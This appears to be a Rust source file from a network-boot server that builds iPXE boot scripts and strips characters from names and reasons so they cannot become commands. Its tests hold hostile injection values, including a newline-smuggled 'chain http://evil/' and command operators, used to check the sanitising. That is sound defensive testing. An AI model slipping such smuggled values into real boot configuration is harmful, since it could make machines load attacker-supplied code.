//! The text of iPXE scripts from what is decided for a machine. Pure.
//!
//! Whatever goes into a script is cleaned first: iPXE runs each line as a
//! command, expands `${…}`, and takes `&&`, `||` and `;` as operators, so that
//! a name or a reason taken over as it is could be a command.

use std::fmt::Write as _;

use boot_proto::cmdline::BootArguments;
use boot_proto::ids::{Digest, MacAddr};

/// Waits in seconds between the attempts of the first script.
const WAITS: [u32; 6] = [2, 5, 10, 20, 40, 60];

/// Everything a machine needs to start its kernel.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BootScript<'a> {
    /// Boot-server's boot face, as this client reaches it.
    pub server: &'a str,
    /// The Machine's name.
    pub machine: &'a str,
    /// MAC of the NIC it boots from.
    pub mac: MacAddr,
    /// Name of the image, for people.
    pub image: &'a str,
    /// Digest of the kernel.
    pub kernel: Digest,
    /// Digest of the initramfs.
    pub initramfs: Digest,
    /// Kernel arguments: the image's, the Image resource's, the profiles'.
    pub arguments: Vec<String>,
}

/// The first script: tells who answers, then asks for the machine's own script,
/// and again after a growing while when that fails.
#[must_use]
pub fn first_script(server: &str) -> String {
    let chain = format!(
        "chain --autofree {server}/ipxe?mac=${{netX/mac:hexhyp}}&uuid=${{uuid}}\
         &serial=${{serial:uristring}}&domain=${{domain:uristring}}\
         &hostname=${{hostname:uristring}}&arch=${{buildarch}}&platform=${{platform}} ||\n"
    );
    let mut script = format!("#!ipxe\necho Moonfarm boot-server at {server}\n{chain}");
    for wait in WAITS {
        let _ = write!(
            script,
            "echo Trying again in {wait} s\nsleep {wait}\n{chain}"
        );
    }
    script.push_str("echo Giving up: back to the firmware\nsleep 5\nexit 1\n");
    script
}

impl BootScript<'_> {
    /// The script that loads kernel and initramfs and starts them.
    ///
    /// Both get plain names: a kernel started by UEFI finds its initramfs only
    /// by the name on its command line, and shows its own as the first word.
    #[must_use]
    pub fn render(&self) -> String {
        let own = BootArguments {
            server: Some(self.server.to_owned()),
            machine: Some(self.machine.to_owned()),
            boot_interface: Some(self.mac),
            ..BootArguments::default()
        };
        let mut words = vec!["initrd=initramfs.img".to_owned()];
        words.extend(self.arguments.iter().flat_map(|text| argument_words(text)));
        words.push(own.render());
        format!(
            "#!ipxe\n\
             imgfree\n\
             echo {machine}: image {image}\n\
             kernel --name vmlinuz {server}/blobs/sha256/{kernel} {arguments} || exit 1\n\
             initrd --name initramfs.img {server}/blobs/sha256/{initramfs} || exit 1\n\
             boot || exit 1\n",
            machine = plain(self.machine),
            image = plain(self.image),
            server = self.server,
            kernel = self.kernel.hex(),
            initramfs = self.initramfs.hex(),
            arguments = words.join(" "),
        )
    }
}

/// The script for a machine that gets no boot: says why and hands back to the
/// first script, which waits and asks again.
#[must_use]
pub fn refusal(reason: &str) -> String {
    format!(
        "#!ipxe\necho\necho Moonfarm does not boot this machine: {}\nexit 1\n",
        plain(reason)
    )
}

/// `text` as something that iPXE only prints: printable ASCII without the
/// characters that mean something to it, 300 characters at most.
fn plain(text: &str) -> String {
    let cleaned: String = text
        .chars()
        .take(300)
        .map(|c| match c {
            '$' | '{' | '}' | '&' | '|' | ';' | '#' | '\\' => ' ',
            ' '..='~' => c,
            _ => ' ',
        })
        .collect();
    cleaned
        .split_ascii_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// The words of one kernel argument as an operator wrote it. `${…}` stays, as it
/// is how one uses iPXE's own settings; what would end the command or the line
/// goes.
fn argument_words(text: &str) -> impl Iterator<Item = String> + '_ {
    text.split(|c: char| c.is_whitespace() || c.is_control())
        .filter(|word| !word.is_empty() && !matches!(*word, "&&" | "||" | ";"))
        .map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn script() -> BootScript<'static> {
        BootScript {
            server: "http://10.0.0.1:8080",
            machine: "m1-c1n1",
            mac: "94:57:a5:d3:ec:f2".parse().unwrap(),
            image: "debian-13",
            kernel: Digest::of(b"kernel"),
            initramfs: Digest::of(b"initramfs"),
            arguments: vec!["console=tty0".into(), "console=ttyS0,115200n8".into()],
        }
    }

    #[test]
    fn the_script_of_a_machine() {
        let expected = format!(
            "#!ipxe\n\
             imgfree\n\
             echo m1-c1n1: image debian-13\n\
             kernel --name vmlinuz http://10.0.0.1:8080/blobs/sha256/{} initrd=initramfs.img console=tty0 \
             console=ttyS0,115200n8 moonfarm.server=http://10.0.0.1:8080 \
             moonfarm.machine=m1-c1n1 BOOTIF=01-94-57-a5-d3-ec-f2 || exit 1\n\
             initrd --name initramfs.img http://10.0.0.1:8080/blobs/sha256/{} || exit 1\n\
             boot || exit 1\n",
            Digest::of(b"kernel").hex(),
            Digest::of(b"initramfs").hex(),
        );
        assert_eq!(script().render(), expected);
    }

    #[test]
    fn nothing_in_a_value_becomes_a_command() {
        let hostile = "x\nchain http://evil/ || ${uuid} && exit 0; # \u{1b}[2J é";
        for text in [
            refusal(hostile),
            BootScript {
                machine: hostile,
                image: hostile,
                arguments: vec![],
                ..script()
            }
            .render()
            .lines()
            .filter(|line| line.starts_with("echo"))
            .map(|line| format!("{line}\n"))
            .collect(),
        ] {
            let chains = text
                .lines()
                .filter(|line| line.trim_start().starts_with("chain"))
                .count();
            assert_eq!(chains, 0, "{text}");
            assert!(!text.contains("||") && !text.contains("${"), "{text}");
            assert!(text.is_ascii() && !text.contains('\u{1b}'), "{text}");
        }
        let arguments = vec!["quiet\nchain http://evil/".into(), "a && b || c ; d".into()];
        let text = BootScript {
            arguments,
            ..script()
        }
        .render();
        assert_eq!(
            text.lines().count(),
            script().render().lines().count(),
            "{text}"
        );
        assert!(text.contains("initramfs.img quiet chain http://evil/ a b c d moonfarm.server="));
    }

    #[test]
    fn the_first_script_asks_and_asks_again() {
        let text = first_script("http://10.0.0.1:8080");
        assert!(text.starts_with("#!ipxe\n"));
        let asks = text
            .matches("/ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}&serial=")
            .count();
        assert_eq!(asks, WAITS.len() + 1);
        assert!(text.ends_with("exit 1\n"));
        assert!(text.lines().all(|line| line.len() < 256), "{text}");
    }
}
